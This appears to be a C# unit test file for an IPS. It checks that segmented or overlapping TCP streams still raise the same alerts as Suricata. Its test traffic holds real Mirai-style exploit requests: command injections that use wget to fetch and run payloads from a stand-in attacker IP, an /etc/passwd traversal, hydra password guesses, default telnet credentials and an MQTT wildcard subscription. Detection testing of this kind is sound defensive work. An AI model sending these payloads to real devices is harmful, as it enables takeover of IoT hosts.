using KalkiEdge.UnitTests.Ips.Peer;

namespace KalkiEdge.UnitTests.Ips;

/// <summary>
/// TCP stream reassembly against a real Suricata 7 (inline stream, the configuration in tests/peers): requests
/// written from the protocols and the attack tools (Mirai's telnet logins and web exploits, hydra's keep-alive
/// Basic guesses, MQTT and RTSP probes) are cut by every evasion strategy (<see cref="SegmentationStrategy"/>) and
/// must raise the same alerts per (sid, flow, turn) as Suricata does. Each case also checks that the attack's rule
/// fired, or, for the overlaps whose first copy is chaff, that the overlap itself was reported.
/// </summary>
[Category("Peer")]
[NonParallelizable]
public class StreamReassemblyPeerTests
{
    private const string Camera = "192.0.2.10";
    private const string Attacker = "203.0.113.66";
    private const string Viewer = "198.51.100.7";
    private const long OverlapSid = 2210050;

    private static readonly string Rules = File.ReadAllText(Path.Combine(RepoPaths.Rules, "bench-50.rules"))
        + $"\nalert tcp any any -> any any (msg:\"stream overlap with different data\"; stream-event:reassembly_overlap_different_data; sid:{OverlapSid};)\n";

    public static IEnumerable<SegmentationStrategy> Strategies => SegmentationStrategy.All;

    [TestCaseSource(nameof(Strategies))]
    public void Attacks_cut_by_an_evasion_strategy_raise_what_suricata_raises(SegmentationStrategy strategy)
    {
        var c = new PeerCapture();
        var expected = Build(c, strategy);
        var alerts = SuricataPeer.AssertSameStreamAlerts(Rules, c);
        var fired = alerts.Select(a => a.Sid).ToHashSet();
        if (strategy.Name.EndsWith(" new", StringComparison.Ordinal))
        {
            // The chaff came first: inline, the first bytes win, so the content is gone; the overlap is what is seen.
            Assert.That(fired, Does.Contain(OverlapSid));
        }
        else
        {
            Assert.That(fired, Is.SupersetOf(expected), $"strategy {strategy}");
            Assert.That(fired.Contains(OverlapSid), Is.EqualTo(strategy.Name.EndsWith(" old", StringComparison.Ordinal)), "overlaps with different data are reported, and only those");
        }
    }

    /// <summary>Writes the attacks and the benign page into <paramref name="c"/>; returns the sids the attacks must raise.</summary>
    private static List<long> Build(PeerCapture c, SegmentationStrategy strategy)
    {
        ushort port = 43000;

        // Mirai's web exploits, one connection each, the request cut by the strategy.
        var exploits = new (string Request, long Sid)[]
        {
            ("GET /shell?cd+/tmp;rm+-rf+*;wget+http://203.0.113.66/Mozi.a;chmod+777+Mozi.a;/tmp/Mozi.a+jaws HTTP/1.1\r\nUser-Agent: Hello, world\r\nHost: 192.0.2.10:80\r\nAccept: text/html\r\nConnection: keep-alive\r\n\r\n", 4000023),
            ("POST /GponForm/diag_Form?images/ HTTP/1.1\r\nHost: 192.0.2.10:8080\r\nUser-Agent: Hello, World\r\nContent-Length: 118\r\n\r\nXWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=``;wget+http://203.0.113.66/m+-O+->/tmp/gpon80;sh+/tmp/gpon80&ipv=0", 4000025),
            ("POST /HNAP1/ HTTP/1.0\r\nHost: 192.0.2.10\r\nSOAPAction: http://purenetworks.com/HNAP1/`cd /tmp && wget http://203.0.113.66/d.sh`\r\nContent-Length: 0\r\n\r\n", 4000020),
            ("GET /cgi-bin/../../../../../etc/passwd HTTP/1.1\r\nHost: 192.0.2.10\r\n\r\n", 4000029),
        };
        var expected = new List<long>();
        foreach (var (request, sid) in exploits)
        {
            var web = c.Conversation(Attacker, port++, Camera, 80).Handshake();
            web.ClientSendsSegmented(request, strategy);
            web.ServerSends("HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n");
            web.Close();
            expected.Add(sid);
        }

        // hydra http-get over keep-alive: a guess per request on one connection, each answered 401.
        var hydra = c.Conversation(Attacker, port++, Camera, 80).Handshake();
        foreach (var password in new[] { "admin", "12345", "password", "888888" })
        {
            var basic = Convert.ToBase64String(System.Text.Encoding.ASCII.GetBytes("admin:" + password));
            hydra.ClientSendsSegmented($"GET /boaform/admin/formLogin HTTP/1.1\r\nHost: 192.0.2.10\r\nConnection: keep-alive\r\nAuthorization: Basic {basic}\r\nUser-Agent: Mozilla/4.0 (Hydra)\r\n\r\n", strategy);
            hydra.ServerSends("HTTP/1.1 401 Unauthorized\r\nWWW-Authenticate: Basic realm=\"camera\"\r\nContent-Length: 0\r\n\r\n");
        }

        hydra.Close();
        expected.Add(4000024);

        // Mirai's telnet login: user, password, then the busybox probe, each line cut by the strategy.
        var telnet = c.Conversation(Attacker, port++, Camera, 23).Handshake();
        telnet.ServerSends("\xff\xfd\x18\xff\xfd\x20login: ");
        foreach (var (line, prompt) in new[] { ("root\r\n", "Password: "), ("xc3511\r\n", "\r\n# "), ("enable\r\n", "\r\n# "), ("/bin/busybox ECCHI\r\n", "ECCHI: applet not found\r\n# ") })
        {
            telnet.ClientSendsSegmented(line, strategy);
            telnet.ServerSends(prompt);
        }

        telnet.Close();
        expected.AddRange([4000005, 4000015]);

        // MQTT: CONNECT without TLS, then a subscription to every topic.
        var mqtt = c.Conversation(Attacker, port++, Camera, 1883).Handshake();
        mqtt.ClientSendsSegmented(Latin1([0x10, 0x12, 0x00, 0x04, .. "MQTT"u8, 0x04, 0x02, 0x00, 0x3c, 0x00, 0x06, .. "mirai1"u8]), strategy);
        mqtt.ServerSends(Latin1([0x20, 0x02, 0x00, 0x00]));
        mqtt.ClientSendsSegmented(Latin1([0x82, 0x06, 0x00, 0x01, 0x00, 0x01, (byte)'#', 0x00]), strategy);
        mqtt.ServerSends(Latin1([0x90, 0x03, 0x00, 0x01, 0x00]));
        mqtt.Close();
        expected.AddRange([4000037, 4000038]);

        // Benign: a viewer's page and the camera's answer, cut the same way, match nothing.
        var viewer = c.Conversation(Viewer, port++, Camera, 80).Handshake();
        viewer.ClientSendsSegmented("GET /index.html HTTP/1.1\r\nHost: 192.0.2.10\r\nAccept: text/html\r\n\r\n", strategy);
        viewer.ServerSends("HTTP/1.1 200 OK\r\nContent-Length: 5\r\n\r\nhello");
        viewer.Close();
        return expected;
    }

    private static string Latin1(byte[] bytes) => System.Text.Encoding.Latin1.GetString(bytes);
}
